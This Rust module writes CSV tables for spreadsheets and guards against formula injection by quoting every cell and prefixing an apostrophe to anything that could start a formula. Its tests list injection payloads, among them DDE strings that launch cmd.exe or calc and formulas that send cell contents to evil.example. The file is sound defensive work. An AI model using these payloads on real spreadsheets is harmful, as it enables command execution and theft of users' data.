//! Tables for spreadsheets: no cell is ever taken for a formula.
//!
//! By default as Italian spreadsheets expect them: `;` between cells, UTF-8 with a byte order mark. With
//! [`Dialect::Rfc4180`]: comma, no mark. Lines end with CR LF in both (RFC 4180, section 2). Every cell is quoted:
//! an import that takes commas, semicolons and tabs all as separators, as spreadsheets do by default, cannot cut a cell
//! in two and find a formula in the second half.

use std::{
    borrow::Cow,
    io::{self, Write},
};

use super::{Cell, clean::is_hostile};

/// Which kind of table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Dialect {
    /// Semicolons and a byte order mark.
    #[default]
    Italian,
    /// Commas, no mark.
    Rfc4180,
}

/// Writes rows as they come.
#[derive(Debug)]
pub struct Writer<W: Write> {
    out: csv::Writer<W>,
    point: char,
}

impl<W: Write> Writer<W> {
    /// A writer onto `out`; writes the head.
    pub fn new(mut out: W, dialect: Dialect, columns: &[&str]) -> io::Result<Self> {
        let (delimiter, point) = match dialect {
            Dialect::Italian => {
                out.write_all("\u{feff}".as_bytes())?;
                (b';', ',')
            }
            Dialect::Rfc4180 => (b',', '.'),
        };
        let mut out = csv::WriterBuilder::new()
            .delimiter(delimiter)
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Always)
            .from_writer(out);
        out.write_record(columns).map_err(io_error)?;
        Ok(Self { out, point })
    }

    /// Writes one row, in the order of the columns.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
        for one in cells {
            self.out.write_field(cell(&one.text(self.point)).as_bytes()).map_err(io_error)?;
        }
        self.out.write_record(None::<&[u8]>).map_err(io_error)
    }

    /// Where it writes to.
    pub fn get_ref(&self) -> &W {
        self.out.get_ref()
    }

    /// Writes what is still held back, and gives `out` back.
    pub fn finish(self) -> io::Result<W> {
        self.out.into_inner().map_err(csv::IntoInnerError::into_error)
    }
}

fn io_error(error: csv::Error) -> io::Error {
    match error.into_kind() {
        csv::ErrorKind::Io(error) => error,
        other => io::Error::other(format!("{other:?}")),
    }
}

/// A cell that a spreadsheet shows as text: control characters become blanks, and what would start a formula gets an
/// apostrophe before it. Plain numbers stay as they are.
pub fn cell(text: &str) -> Cow<'_, str> {
    let control = |c: char| c.is_control();
    let starts = starts_formula(text);
    if !starts && !text.contains(control) {
        return Cow::Borrowed(text);
    }
    let body: String = text.chars().map(|c| if control(c) { ' ' } else { c }).collect();
    Cow::Owned(if starts { format!("'{body}") } else { body })
}

/// True when the first character that counts starts a formula in some spreadsheet. Blanks, quotes, apostrophes and
/// invisible characters before it do not count: readers trim them.
fn starts_formula(text: &str) -> bool {
    if text.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    let skipped = |c: char| {
        c.is_whitespace()
            || is_hostile(c)
            || matches!(c, '"' | '\'' | '“' | '”' | '‘' | '’' | '«' | '»' | '`' | '＂' | '＇')
    };
    let rest = text.trim_start_matches(skipped);
    match rest.chars().next() {
        // A lone plain number is no formula; anything else behind a sign is.
        Some('+' | '-') => !is_number(text),
        Some('=' | '@' | '|' | '%' | '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫' | '−' | '⁼' | '₌') => {
            true
        }
        _ => false,
    }
}

fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(fraction)
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "a test may stop at the first surprise")]

    use super::{super::FindingRow, *};

    /// Cells that some spreadsheet would run, fetch or take for a formula.
    const PAYLOADS: &[&str] = &[
        "=1+1",
        "=cmd|'/C calc'!A0",
        "=CMD|'/C calc'!'A1'",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "=IMPORTDATA(CONCAT(\"http://evil.example/\",A1))",
        "=WEBSERVICE(\"http://evil.example\")",
        "=IMAGE(\"http://evil.example/x.png\")",
        "=DDE(\"cmd\";\"/C calc\";\"__\")",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "='file:///etc/passwd'#$passwd.A1",
        "==1",
        "=",
        "+1+1",
        "+cmd|'/C calc'!A0",
        "+SUM(1,1)",
        "+39 051 123456",
        "+",
        "+-1",
        "-1+1",
        "-2+3+cmd|'/C calc'!A0",
        "-cmd|'/C calc'!A0",
        "-",
        "--1",
        "-1e5x",
        "-A1",
        "-.",
        "-1.2.3",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "@",
        "@A1",
        "@import",
        "\t=1+1",
        "\t1",
        "\r=1+1",
        "\rx",
        "\n=1+1",
        "\nx",
        "\r\n=1+1",
        " =1+1",
        "   @A1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{2003}+1+1",
        "\u{feff}=1+1",
        "\u{feff} =1+1",
        "\u{200b}=1+1",
        "\u{200e}-1+1",
        "\u{202e}=1+1",
        "\u{0}=1+1",
        "\u{1}=1+1",
        "\u{85}=1+1",
        "\u{ad}=1+1",
        "\"=1+1\"",
        "\"\"=1+1",
        "'=1+1",
        "' =1+1",
        "“=1+1”",
        "«=1+1»",
        "`=1+1`",
        "\" +1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠A1",
        " ＝1+1",
        "＂＝1",
        "﹦1+1",
        "﹢1+1",
        "﹣1+1",
        "﹫A1",
        "−1+1",
        "|calc",
        "%0A=1",
        "\t\t\t@A1",
        "\u{b}=1+1",
        "\u{c}=1+1",
        "-0x10",
        "+1;=1+1",
        "-1,2,3",
    ];

    /// Cells that must reach the reader unchanged.
    const HARMLESS: &[&str] = &[
        "",
        "Comune di Ala",
        "https://www.comune.esempio.it/?a=b&c=+1",
        "a=b",
        "1-2",
        "c_a116",
        "-5",
        "+12",
        "-3,14",
        "+2.5",
        "00224000125",
        "perché «Entra con SPID»",
        "x;=1+1",
        "x,=1+1",
        "a\"b",
        "(=1)",
        "#REF!",
        "2026-11-12T10:24:00Z",
    ];

    fn rows_of(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(bytes).unwrap();
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    fn written(dialect: Dialect, names: &[&str]) -> Vec<u8> {
        let mut writer = Writer::new(Vec::new(), dialect, &FindingRow::COLUMNS).unwrap();
        for name in names {
            writer.row(&FindingRow { name: (*name).to_owned(), ..FindingRow::default() }.cells()).unwrap();
        }
        writer.finish().unwrap()
    }

    #[test]
    fn no_payload_starts_a_formula() {
        assert!(PAYLOADS.len() >= 60, "{}", PAYLOADS.len());
        for (dialect, delimiter) in [(Dialect::Italian, b';'), (Dialect::Rfc4180, b',')] {
            let rows = rows_of(&written(dialect, PAYLOADS), delimiter);
            assert_eq!(rows.len(), PAYLOADS.len() + 1);
            for (payload, row) in PAYLOADS.iter().zip(&rows[1..]) {
                assert!(row[1].starts_with('\''), "{payload:?} became {:?}", row[1]);
                assert!(!row[1].contains(char::is_control), "{payload:?}");
                assert_eq!(row.len(), FindingRow::COLUMNS.len(), "{payload:?} broke the row");
            }
        }
    }

    #[test]
    fn harmless_cells_are_untouched() {
        let rows = rows_of(&written(Dialect::Italian, HARMLESS), b';');
        for (text, row) in HARMLESS.iter().zip(&rows[1..]) {
            assert_eq!(row[1], *text);
        }
    }

    /// As spreadsheets import by default: comma, semicolon and tab all separate, outside of quotes.
    fn cells_of_any_separator(text: &str) -> Vec<String> {
        let mut cells = vec![String::new()];
        let mut inside = false;
        for c in text.trim_start_matches('\u{feff}').chars() {
            match c {
                '"' => inside = !inside,
                ',' | ';' | '\t' | '\r' | '\n' if !inside => cells.push(String::new()),
                c => cells.last_mut().unwrap().push(c),
            }
        }
        cells
    }

    #[test]
    fn a_reader_that_takes_every_separator_finds_no_formula_either() {
        let mut tricks = vec!["x;=1+1", "x,=1+1", "x\";=1+1;\"", "x\n=1+1", "x\t=1+1", "\",=1+1,\""];
        tricks.extend(PAYLOADS);
        for dialect in [Dialect::Italian, Dialect::Rfc4180] {
            let text = String::from_utf8(written(dialect, &tricks)).unwrap();
            for cell in cells_of_any_separator(&text) {
                assert!(!starts_formula(&cell) || cell.starts_with('\''), "{cell:?}");
            }
        }
    }

    #[test]
    fn the_two_dialects() {
        let italian = written(Dialect::Italian, &["Ala"]);
        assert!(italian.starts_with("\u{feff}\"codice_ipa\";\"name\";".as_bytes()));
        let plain = String::from_utf8(written(Dialect::Rfc4180, &["Ala"])).unwrap();
        assert!(plain.starts_with("\"codice_ipa\",\"name\","));
        assert!(plain.contains("\r\n\"\",\"Ala\",\"\""));
        assert!(plain.ends_with("\"\"\r\n"));
    }

    #[test]
    fn columns_and_json_names_agree() {
        let json = serde_json::to_value(FindingRow::default()).unwrap();
        for column in FindingRow::COLUMNS {
            assert!(json.get(column).is_some(), "{column}");
        }
        assert_eq!(json.as_object().unwrap().len(), FindingRow::COLUMNS.len());
    }

    #[test]
    fn json_lines_bring_every_payload_back_as_it_was() {
        let mut writer = super::super::jsonl::Writer::new(Vec::new());
        for payload in PAYLOADS {
            writer.row(&FindingRow { excerpt: (*payload).to_owned(), ..FindingRow::default() }).unwrap();
        }
        let text = String::from_utf8(writer.finish().unwrap()).unwrap();
        let back: Vec<FindingRow> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        for (payload, row) in PAYLOADS.iter().zip(back) {
            assert_eq!(row.excerpt, *payload);
        }
    }
}
